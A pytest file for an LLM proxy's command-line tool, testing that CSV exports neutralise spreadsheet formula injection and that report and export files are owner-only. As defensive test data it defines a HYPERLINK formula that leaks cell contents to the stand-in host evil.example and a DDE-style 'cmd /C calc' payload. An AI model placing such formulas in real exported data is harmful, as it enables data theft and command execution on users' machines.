"""What the CLI writes out of the database: CSV safe to open in a spreadsheet, files owner-only.

A client's model name and an upstream's error message are anyone's text. In CSV, a cell starting
with =, +, -, @, tab or CR is a formula to a spreadsheet (OWASP "CSV Injection"): every CSV the CLI
writes (`sql --format csv`, `report --format csv`, `errors --format csv`, `export --format csv`)
quotes such text with a leading `'`. The HTML report and export's files hold prompts and errors,
so they are 0600 (directories 0700) like the database, whatever the umask.
"""

from __future__ import annotations

import csv
import io
import os
from collections.abc import Iterator
from pathlib import Path

import aiohttp
import pytest
from click.testing import CliRunner

from analysis.formatting import csv_cell
from proxy.cli import main
from .serving import RunningProxy

from .conftest import proxy_config
from .upstreams import Script, ScriptedUpstream

MODEL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ERROR = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def loose_umask() -> Iterator[None]:
    old = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(old)


@pytest.fixture
async def hostile_db(tmp_path: Path) -> Path:
    """A database with one request whose model name and upstream error are formulas."""
    body = b'{"error": {"type": "invalid_request_error", "message": "' + ERROR.encode() + b'"}}'
    script = Script(status=400, headers=[("Content-Type", "application/json")], chunks=[body])
    async with ScriptedUpstream(script) as up:
        async with RunningProxy(proxy_config(up.url, tmp_path)) as proxy:
            async with aiohttp.ClientSession() as s:
                async with s.post(proxy.url + "/v1/chat/completions",
                                  json={"model": MODEL, "messages": [{"role": "user", "content": "hi"}]}) as r:
                    assert r.status == 400
                    await r.read()
    return tmp_path / "llmtap.duckdb"


def cli(*args: str) -> str:
    result = CliRunner().invoke(main, list(args))
    assert result.exit_code == 0, result.output
    return result.output


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_the_rule_is_owasps() -> None:
    for formula in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "-", "+cmd"):
        assert csv_cell(formula) == "'" + formula
    for kept in ("gpt-5", "", "'=1", "-5", "+1.5e3", "-.5", " =1", 5, -5, None):
        assert csv_cell(kept) == kept


async def test_every_csv_the_cli_writes_quotes_formulas(hostile_db: Path, tmp_path: Path) -> None:
    db = str(hostile_db)
    sql = cli("sql", "--db", db, "--format", "csv", "SELECT request_model, error_message FROM requests")
    assert cells(sql)[-2:] == ["'" + MODEL, "'" + ERROR]
    report = cli("report", "--db", db, "--by", "model", "--format", "csv")
    assert "'" + MODEL in cells(report) and MODEL not in cells(report)
    errors = cli("errors", "--db", db, "--format", "csv")
    assert any(c.startswith("'") and ERROR in c for c in cells(errors)), errors
    assert not any(c.startswith(("=", "@")) for c in cells(errors) + cells(report) + cells(sql))
    out = tmp_path / "out"
    cli("export", "--db", db, "--out", str(out), "--format", "csv")
    [requests_csv] = (out / "requests").glob("*/*.csv")
    exported = csv.DictReader(io.StringIO(requests_csv.read_text()))
    [row] = list(exported)
    assert row["request_model"] == "'" + MODEL and row["error_message"] == "'" + ERROR
    assert int(row["status"]) == 400  # numbers stay numbers


async def test_html_report_and_export_files_are_owner_only(hostile_db: Path, tmp_path: Path,
                                                           loose_umask: None) -> None:
    html = tmp_path / "report.html"
    html.write_text("an older report")
    html.chmod(0o644)
    CliRunner().invoke(main, ["report", "--db", str(hostile_db), "--html", str(html)], catch_exceptions=False)
    assert html.stat().st_mode & 0o777 == 0o600 and "<html" in html.read_text().lower()
    for fmt in ("csv", "parquet"):
        out = tmp_path / f"out-{fmt}"
        cli("export", "--db", str(hostile_db), "--out", str(out), "--format", fmt)
        made = [out, *out.rglob("*")]
        assert len(made) > 4
        for p in made:
            assert p.stat().st_mode & 0o777 == (0o700 if p.is_dir() else 0o600), p


def test_csv_is_written_in_one_place() -> None:
    """Every CSV goes through formatting.csv_text (or export's csv_safe): a new writer would skip the quoting."""
    root = Path(__file__).resolve().parent.parent
    writers = [str(p.relative_to(root)) for d in ("analysis", "proxy") for p in (root / d).rglob("*.py")
               if p.name != "formatting.py" and any(s in p.read_text() for s in ("csv.writer", "csv.DictWriter"))]
    assert writers == []
